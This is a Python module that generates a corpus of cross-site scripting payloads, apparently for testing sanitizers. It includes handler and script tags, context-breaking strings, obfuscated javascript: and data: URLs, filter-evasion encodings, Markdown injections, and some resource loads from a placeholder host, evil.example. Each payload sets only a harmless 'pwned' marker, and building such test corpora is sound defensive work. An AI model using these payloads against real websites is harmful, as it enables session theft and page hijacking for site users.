"""Texts that are scripts, or end up as scripts, wherever text is taken for markup.

Each way in (an element, a handler, an address, a break out of where the text stands) is written once and combined with
the disguises that filters are known to overlook. Each sets `window.pwned`, so that a page can be asked afterwards.
"""

from __future__ import annotations

import html
from collections.abc import Callable

CODE = "pwned=1"

HANDLERS = [
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><set onbegin={CODE} attributeName=x to=1>",
    f"<body onload={CODE}>",
    f"<details open ontoggle={CODE}>x</details>",
    f"<input autofocus onfocus={CODE}>",
    f"<select autofocus onfocus={CODE}>",
    f"<textarea autofocus onfocus={CODE}></textarea>",
    f"<video onloadstart={CODE} src=x></video>",
    f"<video><source onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}></audio>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<div onpointerover={CODE}>x</div>",
    f"<a onclick={CODE} href=#>x</a>",
    f"<iframe onload={CODE}></iframe>",
    f"<object data=x onerror={CODE}></object>",
    f"<style onload={CODE}></style>",
    f"<link rel=stylesheet href=x onerror={CODE}>",
    f"<div style=animation-name:x onanimationstart={CODE}></div>",
    f"<x contenteditable onblur={CODE} tabindex=1 autofocus>",
    f"<dialog open oncancel={CODE}>x</dialog>",
]
ELEMENTS = [
    f"<script>{CODE}</script>",
    f"<script src=data:text/javascript,{CODE}></script>",
    f"<script type=module>{CODE}</script>",
    f"<svg><script>{CODE}</script></svg>",
    f"<math><mtext><script>{CODE}</script></mtext></math>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CODE}></iframe>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=javascript:{CODE}>",
    f"<form action=javascript:{CODE}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{CODE}>x</button>",
    f"<isindex action=javascript:{CODE} type=image>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    "<base href=//evil.example/>",
    f"<template><script>{CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CODE}>'></use></svg>",
    f"<svg><a xlink:href=javascript:{CODE}><text y=9>x</text></a></svg>",
    f"<svg><style>@import 'data:,{CODE}'</style></svg>",
    f"<math href=javascript:{CODE}>x</math>",
    f"<table background=javascript:{CODE}><td>x</td></table>",
    f"<link rel=import href=data:text/html,<script>{CODE}</script>>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<img src=//evil.example/x.png>",
    "<video poster=//evil.example/x.png></video>",
    f"<?xml-stylesheet href='javascript:{CODE}'?>",
    f"<![CDATA[<script>{CODE}</script>]]>",
    f"<!--><script>{CODE}</script>-->",
    f"<!--[if IE]><script>{CODE}</script><![endif]-->",
]
BREAKS = [
    '">{0}',
    "'>{0}",
    "</title>{0}",
    "</textarea>{0}",
    "</script>{0}",
    "</style>{0}",
    "</template>{0}",
    "--></noscript>{0}",
    "]]>{0}",
    "`-{0}-`",
    "{{{{{0}}}}}",
    "${{{0}}}",
]
ADDRESSES = [
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"java\nscript:{CODE}",
    f"java\rscript:{CODE}",
    f" \x01javascript:{CODE}",
    f"javascript&colon;{CODE}",
    f"&#106;avascript:{CODE}",
    f"&#x6A;avascript:{CODE}",
    f"javascript://%0a{CODE}",
    f"javascript:/*--></title></style>*/{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={CODE}>",
    f"vbscript:{CODE}",
    f"livescript:{CODE}",
    f"view-source:javascript:{CODE}",
    f"feed:javascript:{CODE}",
    f"blob:javascript:{CODE}",
    f'http://x"onmouseover={CODE}//',
    f"https://example.com/'onclick={CODE}",
    f"//evil.example/{CODE}",
]
MARKDOWN = [
    "[x]({0})",
    "![x]({0})",
    "<{0}>",
    "[x]: {0}\n\n[x]",
    '[x](https://example.com/ "{0}")',
]
NOTATIONS = [
    f"`<script>{CODE}</script>`",
    f"```html\n<script>{CODE}</script>\n```",
    f"``` onload={CODE}\nx\n```",
    f'```"onmouseover={CODE}\nx\n```',
    f"> <img src=x onerror={CODE}>",
    f"- <img src=x onerror={CODE}>",
    f"# <img src=x onerror={CODE}>",
    f"| a |\n|---|\n| <img src=x onerror={CODE}> |",
    f"**<img src=x onerror={CODE}>**",
    f"[<img src=x onerror={CODE}>](https://example.com)",
    f'[x](https://example.com/"onclick={CODE})',
    f':smile" onload={CODE}:',
    f"@<img src=x onerror={CODE}>",
    f"[x](<javascript:{CODE}>)",
    f'<a href="javascript:{CODE}">x</a>',
]


def _entities(text: str) -> str:
    return html.escape(text)


def _numbers(text: str) -> str:
    return "".join(f"&#{ord(character)};" if character in "<>\"'=" else character for character in text)


def _with_nul(text: str) -> str:
    return text.replace("<", "<\ufffd", 1)


def _slashes(text: str) -> str:
    return text.replace(" ", "/")


def _upper(text: str) -> str:
    head, _, tail = text.partition("pwned")
    return head.upper() + "pwned" + tail if tail else text.upper()


def _lines(text: str) -> str:
    return text.replace(" ", "\n")


def _half(text: str) -> str:
    return text.removesuffix(">")


DISGUISES: list[Callable[[str], str]] = [_entities, _numbers, _with_nul, _slashes, _upper, _lines, _half]


def corpus() -> list[str]:
    """All of them, each once."""
    plain = HANDLERS + ELEMENTS
    broken = [breaking.format(HANDLERS[number % 6]) for number, breaking in enumerate(BREAKS)]
    disguised = [disguise(one) for number, one in enumerate(plain) for disguise in DISGUISES[number % 2 :: 2]]
    linked = [form.format(address) for number, address in enumerate(ADDRESSES) for form in MARKDOWN[number % 2 :: 2]]
    return list(dict.fromkeys([*plain, *broken, *disguised, *ADDRESSES, *linked, *NOTATIONS]))
